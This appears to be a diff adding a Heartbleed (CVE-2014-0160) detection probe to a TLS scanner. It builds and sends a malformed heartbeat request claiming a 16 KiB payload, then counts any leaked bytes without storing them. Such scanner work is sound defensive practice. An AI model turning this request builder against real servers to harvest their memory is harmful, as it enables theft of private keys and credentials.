@@ -19,6 +19,8 @@ from scanner.tlsprobe.suites import TLS13, suite
 from scanner.tlsprobe.wire import (
     CT_ALERT,
     CT_HANDSHAKE,
+    CT_HEARTBEAT,
+    EXT_HEARTBEAT,
     HS_CERTIFICATE,
     HS_SERVER_HELLO,
     HS_SERVER_HELLO_DONE,
@@ -169,3 +171,80 @@ async def probe(ep: TlsEndpoint, spec: HelloSpec, timeout: float, read_kex: bool
         return Answer("error", reason=str(exc))
     except OSError as exc:
         return Answer("error", reason=f"socket error: {exc.strerror or exc}")
+
+
+@dataclass(frozen=True)
+class HeartbeatAnswer:
+    """What a heartbeat probe learnt. Leaked bytes are counted, never kept."""
+
+    offered: bool | None  # the ServerHello echoed the heartbeat extension (None: no hello)
+    leaked: int = 0  # bytes returned beyond the 0-byte payload Assay sent
+    reason: str = ""
+
+    @property
+    def vulnerable(self) -> bool:
+        return self.leaked > 0
+
+
+# A heartbeat request claiming a 16 KiB payload while carrying none (CVE-2014-0160): a patched
+# server discards it (RFC 6520 section 4), a vulnerable one answers with its own memory.
+HEARTBLEED_CLAIM = 0x4000
+
+
+def heartbeat_request(version: int) -> bytes:
+    payload = b"\x01" + HEARTBLEED_CLAIM.to_bytes(2, "big")
+    header = bytes([CT_HEARTBEAT]) + version.to_bytes(2, "big") + len(payload).to_bytes(2, "big")
+    return header + payload
+
+
+async def heartbleed(
+    ep: TlsEndpoint, spec: HelloSpec, timeout: float, wait: float = 2.0
+) -> HeartbeatAnswer:
+    """One connection: a hello offering heartbeats; if the server takes them, one malformed
+    heartbeat after its ServerHelloDone, and at most `wait` seconds for an answer."""
+    try:
+        async with asyncio.timeout(timeout + wait):
+            reader, writer = await open_plain(ep, timeout)
+            try:
+                writer.write(client_hello(spec))
+                await writer.drain()
+                ans = await asyncio.wait_for(_exchange(reader, spec, True), timeout)
+                if ans.hello is None:
+                    return HeartbeatAnswer(None, reason=ans.describe())
+                if EXT_HEARTBEAT not in ans.hello.extensions:
+                    return HeartbeatAnswer(False, reason="heartbeat extension not echoed")
+                writer.write(heartbeat_request(ans.hello.version))
+                await writer.drain()
+                return await _heartbeat_reply(_Reader(reader, MAX_BYTES_PER_PROBE), wait)
+            finally:
+                writer.close()
+                with contextlib.suppress(Exception):
+                    await asyncio.wait_for(writer.wait_closed(), 1.0)
+    except TimeoutError:
+        return HeartbeatAnswer(None, reason=f"no answer within {timeout:g}s")
+    except TlsParseError as exc:
+        return HeartbeatAnswer(None, reason=f"malformed answer: {exc}")
+    except (ConnectionResetError, BrokenPipeError):
+        return HeartbeatAnswer(None, reason="connection reset")
+    except TlsProbeError as exc:
+        return HeartbeatAnswer(None, reason=str(exc))
+    except OSError as exc:
+        return HeartbeatAnswer(None, reason=f"socket error: {exc.strerror or exc}")
+
+
+async def _heartbeat_reply(rd: _Reader, wait: float) -> HeartbeatAnswer:
+    try:
+        async with asyncio.timeout(wait):
+            while True:
+                rec = await rd.record()
+                if rec is None:
+                    return HeartbeatAnswer(True, reason="closed after the heartbeat")
+                ctype, body = rec
+                if ctype == CT_HEARTBEAT:
+                    # type(1) + payload_length(2) + payload + padding: anything past the
+                    # 3-byte header is memory the server should not have sent
+                    return HeartbeatAnswer(True, leaked=max(0, len(body) - 3))
+                if ctype == CT_ALERT:
+                    return HeartbeatAnswer(True, reason=f"alert {parse_alert(body).name}")
+    except TimeoutError:
+        return HeartbeatAnswer(True, reason="the malformed heartbeat was ignored")
